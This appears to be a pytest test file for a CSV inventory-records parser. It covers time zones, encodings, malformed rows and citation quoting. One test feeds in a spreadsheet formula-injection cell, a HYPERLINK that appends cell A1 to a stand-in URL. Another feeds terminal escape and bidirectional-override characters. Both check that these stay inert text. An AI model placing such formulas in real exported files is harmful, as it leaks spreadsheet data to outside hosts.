"""CSV: what a row says, and what is said of rows that cannot be read."""

from __future__ import annotations

import subprocess
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from collectors.records import collector
from recon import schema
from recon.errors import BadInputError
from tests.collectors.records.tables import COLUMNS, HEAD, Table

DIGEST = "0f343b0931126a20f133d67c2b018a3b" * 2


def test_a_row_is_an_event_and_its_cells_are_claims(tmp_path: Path):
    table = Table(
        tmp_path,
        HEAD + b"web-01,struts,2.3.31,2017-03-09T14:00Z\nweb-02,struts,2.3.30,2017-03-10\n",
    )
    first, second = table.rows().iter_rows(named=True)
    assert (first["kind"], first["subject"]) == ("record", "server:web-01/struts")
    assert (first["clock"], first["basis"]) == ("records:inventory", "asserted")
    assert first["earliest"] == datetime(2017, 3, 9, 14, tzinfo=UTC)
    assert first["latest"] == datetime(2017, 3, 9, 14, 0, 59, 999_999, tzinfo=UTC)
    assert (first["citation"], first["position"]) == ("line 2", 1)
    assert (second["citation"], second["position"]) == ("line 3", 2)
    assert first["stream"] == f"records:{first['item'][:16]}"
    claims = table.claims().select("citation", "part", "attribute", "value").rows()
    assert claims == [("line 2", 1, "version", "2.3.31"), ("line 3", 1, "version", "2.3.30")]
    assert table.said() == [
        (
            "line 3: expected times with a zone; found 1 without; each is read as the 26 hours that"
            " it covers somewhere on Earth"
        )
    ]
    schema.check(table.parsed.events, schema.DRAFT, "test")


def test_attribute_and_value_columns(tmp_path: Path):
    head = b"Host,What,Is,SHA,When,Who,Seq\n"
    table = Table(
        tmp_path,
        head + f"a,patch,KB1,{DIGEST},2017-03-09,ada,7\nb,,KB2,x,2017-03-09,,y\n".encode(),
        columns={
            "subject": "server:{Host}", "time": "When", "attribute": "What", "value": "Is",
            "digest": "SHA", "actor": "Who", "position": "Seq",
        },
        zone="UTC",
    )  # fmt: skip
    (claim,) = table.claims().iter_rows(named=True)
    assert (claim["attribute"], claim["value"], claim["digest"]) == (
        "patch",
        "KB1",
        f"sha256:{DIGEST}",
    )
    assert (claim["actor"], claim["position"], claim["stream"]) == ("ada", 7, "records:inventory")
    assert claim["names"] == [f"sha256:{DIGEST}"]
    assert [line.split(";")[0] for line in table.said()] == [
        "line 3: expected a whole number in 'Seq'",
        "line 3: expected a digest of 40 or 64 hexadecimal digits in 'SHA'",
    ]


@pytest.mark.parametrize(
    ("cells", "more", "earliest", "latest", "said"),
    [
        ("2017-03-09,,", {}, "2017-03-08 10:00:00", "2017-03-10 11:59:59.999999", "26 hours"),
        ("2017-03-09,,", {"zone": "America/New_York"},
         "2017-03-09 05:00:00", "2017-03-10 04:59:59.999999", None),
        ("2017-03-09 10:00,+05:30,", {"zone": "America/New_York"},
         "2017-03-09 04:30:00", "2017-03-09 04:30:59.999999", None),
        ("2017-11-05 01:30:00,America/New_York,", {},
         "2017-11-05 05:30:00", "2017-11-05 06:30:00.999999", "came twice"),
        ("2017-03-12 02:30:00,America/New_York,", {},
         "2017-03-12 06:30:00", "2017-03-12 07:30:00.999999", "left out"),
        ("2017-03-09 10:00:00,CST,", {},
         "2017-03-08 20:00:00", "2017-03-09 22:00:00.999999", "IANA name"),
        ("2017-03-09 10:11:12,UTC,day", {},
         "2017-03-09 00:00:00", "2017-03-09 23:59:59.999999", None),
        ("2017-03-09 10:11:12,UTC,month", {},
         "2017-03-01 00:00:00", "2017-03-31 23:59:59.999999", None),
        ("2017-03,UTC,", {}, "2017-03-01 00:00:00", "2017-03-31 23:59:59.999999", None),
        ("2017-03-09 10:11,UTC,second", {},
         "2017-03-09 10:11:00", "2017-03-09 10:11:59.999999", None),
        ("2017-03-09 10:11,UTC,soon", {},
         "2017-03-09 10:11:00", "2017-03-09 10:11:59.999999", "soon"),
        ("09.03.2017 10:11,UTC,", {"time_formats": ["%d.%m.%Y %H:%M"]},
         "2017-03-09 10:11:00", "2017-03-09 10:11:59.999999", None),
        ("3/9/17,UTC,", {"time_formats": ["%m/%d/%y"]},
         "2017-03-09 00:00:00", "2017-03-09 23:59:59.999999", None),
        ("09.03.2017 10:11:12.25,UTC,", {"time_formats": ["%d.%m.%Y %H:%M:%S.%f"]},
         "2017-03-09 10:11:12.250000", "2017-03-09 10:11:12.259999", None),
        ("3/9/2017,UTC,", {}, None, None, "undated"),
        ("42803.41,UTC,", {}, None, None, "undated"),
        (",UTC,", {}, None, None, "undated"),
    ],
)  # fmt: skip
def test_times(
    tmp_path: Path, cells: str, more: dict[str, Any], earliest: str | None, latest: str | None,
    said: str | None,
):  # fmt: skip
    table = Table(
        tmp_path,
        f"Host,When,Zone,Exact\na,{cells}\n".encode(),
        columns={"subject": "server:{Host}", "time": "When", "zone": "Zone", "precision": "Exact"},
        **more,
    )
    (row,) = table.rows().iter_rows(named=True)
    form = "%Y-%m-%d %H:%M:%S.%f"
    for name, wanted in (("earliest", earliest), ("latest", latest)):
        found = row[name] and row[name].strftime(form)
        assert found == (wanted and (wanted if "." in wanted else wanted + ".000000"))
    assert [said in line for line in table.said()] == ([] if said is None else [True])


def test_a_stretch_has_two_columns(tmp_path: Path):
    table = Table(
        tmp_path,
        b"Host,From,To\na,2017-03-07,2017-03-09\nb,2017-03-07,\nc,2017-03-09,2017-03-07\n",
        columns={"subject": "server:{Host}", "time": "From", "until": "To"},
        zone="UTC",
    )
    days = [
        (low and low.day, high and high.day)
        for low, high in table.rows()["earliest", "latest"].rows()
    ]
    assert days == [(7, 9), (7, 7), (None, None)]
    assert len(table.said()) == 1
    assert table.said()[0].startswith("line 4: expected an end in 'To'")


def test_rows_of_other_sources_are_left_to_them_with_a_word(tmp_path: Path):
    data = b"Host,Patch,By,Domain\na,1,scanner,it\nb,2,inventory,it\nc,3,scanner,audit\nd,4,,it\n"
    columns = {"subject": "server:{Host}", "attributes": {"patch": "Patch"}}
    scanner = Table(tmp_path / "1", data, columns=columns, only={"By": "scanner"})
    assert scanner.claims()["value"].to_list() == ["1", "3"]
    assert scanner.said() == [
        (
            ": expected rows of inventory, as the case says by 'By'; found 2 others, which are left"
            " to other sources: 1 of '(empty)'; 1 of 'inventory'"
        )
    ]
    audit = Table(tmp_path / "2", data, domain="audit", columns={**columns, "domain": "Domain"})
    assert audit.claims()["value"].to_list() == ["3"]
    assert "3 of 'it'" in audit.said()[0]


def test_clock_basis_and_kind_of_a_cell(tmp_path: Path):
    table = Table(
        tmp_path,
        b"H,C,B,K\na,s3:models,stamped,patched\nb,,Asserted,git.commit\nc,x,sworn,\n",
        columns={"subject": "server:{H}", "clock": "C", "basis": "B", "kind": "K"},
        kind="seen",
    )
    assert table.rows().select("clock", "basis", "kind").rows() == [
        ("records:inventory/s3:models", "stamped", "patched"),
        ("records:inventory", "asserted", "seen"),
        ("records:inventory/x", "asserted", "seen"),
    ]
    assert [line.split(";")[0] for line in table.said()] == [
        "line 3: expected a kind of the table's own",
        "line 4: expected stamped or asserted",
    ]


def test_a_formula_is_a_text_like_any_other(tmp_path: Path):
    cell = b'"=HYPERLINK(""http://x/?""&A1,""ok"")"'
    table = Table(tmp_path, HEAD + b"a,b," + cell + b",2017-03-09T00:00Z\n")
    (claim,) = table.claims().iter_rows(named=True)
    assert claim["value"] == '=HYPERLINK("http://x/?"&A1,"ok")'


@pytest.mark.parametrize(
    ("bad", "problem"),
    [
        (b"a,b,1\n", "found 3"),
        (b"a,b,1,2017-03-09T00:00Z,more\n", "found 5"),
        (b'a,b,"1,2017-03-09T00:00Z\n', "found text that is none"),
        (b'a,b,"1"x,2017-03-09T00:00Z\n', "found text that is none"),
        (b"a,b,\xff,2017-03-09T00:00Z\n", "found other bytes at byte 5 of line 3"),
        (b"a,b," + b"x" * 200_000 + b",2017-03-09T00:00Z\n", "found text that is none"),
        (b"a,b," + b"x" * (1 << 21) + b",2017-03-09T00:00Z\n", "found a longer one"),
        (b"a,b\rc,1,2017-03-09T00:00Z\n", "found text that is none"),
    ],
)
def test_a_bad_row_is_named_and_takes_no_other_with_it(tmp_path: Path, bad: bytes, problem: str):
    good = b"web-01,struts,2.3.31,2017-03-09T14:00Z\n"
    table = Table(tmp_path, HEAD + good + bad + good)
    assert table.rows()["citation"].to_list() == ["line 2", "line 3", "line 4"]
    assert table.claims()["citation"].to_list() == ["line 2", "line 4"]
    (said,) = table.said()
    assert said.startswith("line 3: ")
    assert problem in said
    assert table.rows()["earliest"].null_count() == 1
    assert table.quote("line 3").text


def test_escapes_and_nuls_stay_what_they_are(tmp_path: Path):
    table = Table(tmp_path, HEAD + "a\x1b[2J,b\x00c,\u202e1,2017-03-09T00:00Z\n".encode())
    (claim,) = table.claims().iter_rows(named=True)
    assert (claim["subject"], claim["value"]) == ("server:a\x1b[2J/b\x00c", "\u202e1")


@pytest.mark.parametrize(
    ("text", "encoded", "more"),
    [
        ("Müller", "utf-8-sig", {}),
        ("Müller", "utf-16", {}),
        ("Müller", "cp1252", {"encoding": "cp1252"}),
        ("Мюллер", "koi8-r", {"encoding": "koi8-r"}),
    ],
)
def test_encodings(tmp_path: Path, text: str, encoded: str, more: dict[str, str]):
    data = f"Server,Package,Version,Checked\n{text},b,1,2017-03-09T00:00Z\n".encode(encoded)
    table = Table(tmp_path, data, **more)
    assert table.rows()["subject"].to_list() == [f"server:{text}/b"]
    assert table.said() == []
    assert text in table.quote("line 2").text


def test_other_headings_are_an_error_that_names_them(tmp_path: Path):
    table = Table(tmp_path, b"Server;Package;Version;Checked\na;b;1;2017-03-09\n")
    assert table.rows().is_empty()
    assert table.said() == [
        (
            ": expected a column 'Server'; found the headings 'Server;Package;Version;Checked';"
            " nothing after that is read of table"
        )
    ]
    assert Table(tmp_path / "2", b"Server;Package;Version;Checked\na;b;1;2017-03-09T00:00Z\n",
                 delimiter=";").said() == []  # fmt: skip


def test_a_heading_that_stands_twice_is_refused_where_it_is_used(tmp_path: Path):
    table = Table(tmp_path, b"Server,Package,Version,Version,Checked\na,b,1,2,2017\n")
    assert "expected one column 'Version'; found 2 so called" in table.said()[0]


def test_headings_further_down_and_blank_lines(tmp_path: Path):
    table = Table(
        tmp_path, b"Exported by ada\n\n" + HEAD + b"\na,b,1,2017-03-09T00:00Z\n\n", header=3
    )
    assert table.rows()["citation"].to_list() == ["line 5"]
    assert [line.split(";")[0] for line in table.said()] == [
        ": expected headings in line 1",
        "line 4: expected rows",
    ]


def test_a_row_of_several_lines_is_quoted_as_sed_shows_it(tmp_path: Path):
    table = Table(tmp_path, HEAD + b'a,b,"1\n2",2017-03-09T00:00Z\r\nc,d,3,2017-03-09T00:00Z\n')
    assert table.rows()["citation"].to_list() == ["lines 2-3", "line 4"]
    (item,) = table.items
    for citation in table.events["citation"].unique():
        quote = table.quote(citation)
        if citation:
            shown = subprocess.run(  # noqa: S602  (the command that people paste)
                quote.how.replace("ITEM", str(table.items.path(item))),
                shell=True, check=True, capture_output=True,
            )  # fmt: skip
            assert shown.stdout.decode().rstrip("\r\n") == quote.text


@pytest.mark.parametrize(
    "citation", ["line 0", "line 99", "row 1", "row 1 of sheet A", "x", "lines 9-8"]
)
def test_a_row_that_is_not_there_is_refused(tmp_path: Path, citation: str):
    with pytest.raises(BadInputError):
        Table(tmp_path, HEAD + b"a,b,1,2017-03-09T00:00Z\n").quote(citation)


@pytest.mark.parametrize(
    "wrong",
    [
        {"zone": "CST"},
        {"zone": "Mars/Olympus"},
        {"precision": "soon"},
        {"time_formats": ["%d.%m"]},
        {"time_formats": ["%Q"]},
        {"encoding": "rot13"},
        {"encoding": "utf-16"},
        {"delimiter": '"'},
        {"kind": "git.commit"},
        {"format": "jsonl", "columns": {"subject": "x:{a}", "time": "a.b"}},
        {"columns": {"subject": "x:{a}", "attribute": "b"}},
        {"columns": {"subject": "x:{a}", "until": "b"}},
    ],
)
def test_options_that_cannot_be_are_refused(wrong: dict[str, Any]):
    with pytest.raises(ValueError, match=r"expected|is read as"):
        collector.options.model_validate(
            {"path": "x", "format": "csv", "columns": COLUMNS, **wrong}
        )


_CELL = st.text(st.characters(codec="utf-8"), max_size=8)


@given(st.lists(st.lists(_CELL, min_size=4, max_size=4), max_size=6), st.binary(max_size=40))
@example([], b"\x1c")
def test_no_line_is_lost_in_silence(
    tmp_path_factory: pytest.TempPathFactory, rows: list[list[str]], junk: bytes
):
    """Every line that is not blank is in an event, whatever stands in it."""
    import csv
    import io

    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    data = HEAD + out.getvalue().encode() + junk + b"\nz,z,1,2017-03-09T00:00Z\n"
    table = Table(tmp_path_factory.mktemp("t"), data)
    cited: set[int] = set()
    for citation in table.rows()["citation"]:
        first, _, last = citation.split(" ")[1].partition("-")
        cited |= set(range(int(first), int(last or first) + 1))
    lines = data.split(b"\n")[:-1]
    missing = [n for n, line in enumerate(lines, 1) if n not in cited and line.strip() and n > 1]
    assert missing == []
    again = collector.parse(table.source, table.items).events.collect()
    assert again.equals(table.events)
    assert table.rows().filter(pl.col("position").is_null()).is_empty()


def test_a_line_as_long_as_the_file_is_quoted_in_part(tmp_path: Path):
    table = Table(tmp_path, HEAD + b"a,b,1,2017-03-09" + b"x" * (3 << 20) + b"\nlast\n")
    assert len(table.quote("line 2").text) == 1 << 20
    assert table.quote("line 3").text == "last"
